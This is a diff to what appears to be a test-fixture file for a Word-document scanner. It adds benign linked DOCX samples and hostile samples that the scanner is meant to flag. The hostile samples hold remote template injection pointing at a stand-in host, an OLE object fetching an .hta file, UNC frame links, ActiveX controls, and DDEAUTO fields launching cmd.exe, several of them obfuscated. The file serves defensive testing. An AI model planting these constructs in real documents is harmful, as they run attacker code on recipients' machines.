@@ -94,6 +94,38 @@ export const WORD_FILES: Record<string, Buffer> = {
   ),
 }
 
+const links = (...each: string[]) => ({
+  name: 'word/_rels/document.xml.rels',
+  data: `<?xml version="1.0"?><Relationships>${each.join('')}</Relationships>`,
+})
+const outside = (type: string, target: string) =>
+  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`
+const runs = (...words: string[]) =>
+  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${words.map(word => `<w:r><w:instrText xml:space="preserve">${word}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
+const footer = (content: string): Part => ({ name: 'word/footer1.xml', data: `<w:ftr>${content}</w:ftr>` })
+
+/** Word files that lead out of themselves, as people send them every day. */
+export const LINKED_WORD_FILES: Record<string, Buffer> = {
+  'a DOCX with links, and a picture that stands on the web': goodDocx([
+    links(
+      outside('hyperlink', 'https://cour.example/?a=1&amp;b=2'),
+      outside('hyperlink', 'mailto:nora@client.example'),
+      outside('image', 'https://cabinet.example/logo.png'),
+    ),
+  ]),
+  'a DOCX that remembers the template on the disk of its writer': goodDocx([
+    links(
+      outside('attachedTemplate', 'file:///C:\\Users\\Nora\\Templates\\lettre.dotm'),
+      outside('attachedTemplate', 'Normal.dotm'),
+      outside('image', 'file:///D:/photos/bail.png'),
+    ),
+  ]),
+  'a DOCX with its page numbers, its date and a table of contents': goodDocx([
+    footer(`${runs(' PAGE ')}${runs(' DATE \\@ "d MMMM yyyy" ')}${runs(' TOC \\o "1-3" ')}`),
+    { name: 'word/comments.xml', data: '<w:t>dde, DDEAUTO</w:t>' },
+  ]),
+}
+
 const native: Stream = { name: '\u0001Ole10Native', content: Buffer.from('facture.exe\0MZ') }
 const MACROS: Part = { name: 'xl/vbaProject.bin', data: 'x' }
 
@@ -148,6 +180,66 @@ export const HOSTILE_WORD_FILES: Record<string, { bytes: Buffer; code: string }>
   },
   'a DOCX with a workbook whose macros are its own': {
     bytes: goodDocx([{ name: 'word/embeddings/Microsoft_Excel.xlsm', data: makeZip([...WORKBOOK, MACROS]) }]),
+    code: 'document.carries-program',
+  },
+  'a DOCX whose template is fetched from the web': {
+    bytes: goodDocx([links(outside('attachedTemplate', 'https://elsewhere.example/a.dotm'))]),
+    code: 'document.carries-program',
+  },
+  'a DOCX whose template is fetched, in other letters and other quotes': {
+    bytes: goodDocx([
+      links(
+        `<x:Relationship TargetMode='External' Target='h&#x74;tp://elsewhere.example/>' Type='a/&#97;ttachedTemplate'/>`,
+      ),
+    ]),
+    code: 'document.carries-program',
+  },
+  'a DOCX whose links are written in two bytes a letter': {
+    bytes: goodDocx([
+      {
+        name: 'word/_rels/settings.xml.rels',
+        data: Buffer.from(
+          `\ufeff<Relationships>${outside('attachedTemplate', 'https://elsewhere.example/a.dotm')}</Relationships>`,
+          'utf16le',
+        ),
+      },
+    ]),
+    code: 'document.carries-program',
+  },
+  'a DOCX with an object that is fetched': {
+    bytes: goodDocx([links(outside('oleObject', 'https://elsewhere.example/a.hta!x'))]),
+    code: 'document.carries-program',
+  },
+  'a DOCX with a picture on another machine of the network': {
+    bytes: goodDocx([links(outside('image', 'file://elsewhere.example/share/a.png'))]),
+    code: 'document.carries-program',
+  },
+  'a DOCX with a frame of another machine of the network': {
+    bytes: goodDocx([links(outside('frame', '\\\\elsewhere.example\\share\\a.htm'))]),
+    code: 'document.carries-program',
+  },
+  'a DOCX with controls': {
+    bytes: goodDocx([
+      { name: 'word/activeX/activeX1.xml', data: '<ax:ocx/>' },
+      { name: 'word/activeX/activeX1.bin', data: 'x' },
+    ]),
+    code: 'document.carries-program',
+  },
+  'a DOCX with a field that starts a program': {
+    bytes: goodDocx([footer(runs('D', 'DEA', 'UTO c:\\\\windows\\\\cmd.exe'))]),
+    code: 'document.carries-program',
+  },
+  'a DOCX with a short field that starts a program': {
+    bytes: goodDocx([footer(`<w:fldSimple w:instr=' D&#68;E excel "a"'/>`)]),
+    code: 'document.carries-program',
+  },
+  'a DOC with a field that starts a program': {
+    bytes: makeWord([
+      {
+        name: 'WordDocument',
+        content: Buffer.concat([text(4000), Buffer.from('\x13 DDEAUTO c:\\cmd.exe', 'utf16le'), text(900)]),
+      },
+    ]),
     code: 'document.carries-program',
   },
   'rich text that calls itself a DOC': {
